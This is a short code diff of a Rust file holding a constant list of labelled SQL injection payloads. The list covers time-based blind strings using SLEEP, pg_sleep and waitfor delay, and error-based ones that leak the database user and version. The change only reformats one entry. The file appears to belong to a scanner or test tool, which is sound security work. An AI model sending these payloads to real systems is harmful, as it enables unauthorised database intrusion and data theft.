@@ -23,7 +23,10 @@ const VALUES: &[(&str, &str)] = &[
     ("sqli", "1' AND SLEEP(5)-- "),
     ("sqli", "1-sleep(5)"),
     ("sqli", "(select(0)from(select(sleep(15)))v)"),
-    ("sqli", "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x71,(SELECT user()))x FROM information_schema.tables GROUP BY x)a)-- -"),
+    (
+        "sqli",
+        "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(0x71,(SELECT user()))x FROM information_schema.tables GROUP BY x)a)-- -",
+    ),
     ("sqli", "1' waitfor delay '0:0:5'--"),
     ("sqli", "'||(select pg_sleep(5))||'"),
     ("sqli", "1 AND extractvalue(1,concat(0x7e,version()))"),
